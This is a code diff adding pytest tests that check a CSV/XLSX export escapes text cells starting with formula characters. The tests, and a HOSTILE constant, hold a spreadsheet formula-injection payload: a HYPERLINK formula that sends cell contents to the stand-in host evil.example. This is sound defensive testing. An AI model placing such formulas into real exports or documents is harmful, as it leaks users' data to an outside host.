@@ -55,3 +55,35 @@ def test_csv_and_xlsx_hold_the_same_rows(data):
     assert from_csv == from_xlsx
     assert len(from_csv) == 1 + len(data["rows"])
     assert to_xlsx(data) == to_xlsx(data)  # the same figures give the same file
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_cells_that_a_spreadsheet_would_run_are_neutralised(framework, start):
+    """Issue 13 item 7: a service name (or any text) starting with a formula character is never a formula."""
+    name = start + 'HYPERLINK("http://evil.example/?leak="&A3&B3,"Click")'
+    data = export_data(
+        inspection={**INSPECTION, "service": name},
+        framework=framework_structure(framework),
+        ratings=published_ratings(),
+    )
+    rows = list(csv.reader(io.StringIO(to_csv(data).decode("utf-8-sig"), newline="")))
+    text_cell = rows[1][COLUMNS.index("text")]
+    assert text_cell == "'" + name
+    book = load_workbook(io.BytesIO(to_xlsx(data)))
+    for cell in (book["Figures"]["F2"], book["About"]["B2"]):
+        assert cell.data_type == "s"
+        # (XML reads a carriage return back as a line feed)
+        assert cell.value[0] == "'" and cell.value[2:] == name[1:]
+    # Numbers we computed stay numbers.
+    assert book["Figures"]["H2"].data_type == "n" and book["Figures"]["H2"].value == 26
+
+
+def test_a_negative_number_we_computed_is_not_touched():
+    from accounts.spreadsheets import safe_cell
+
+    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
+    assert safe_cell("-3") == "'-3"
+    assert safe_cell("plain") == "plain"
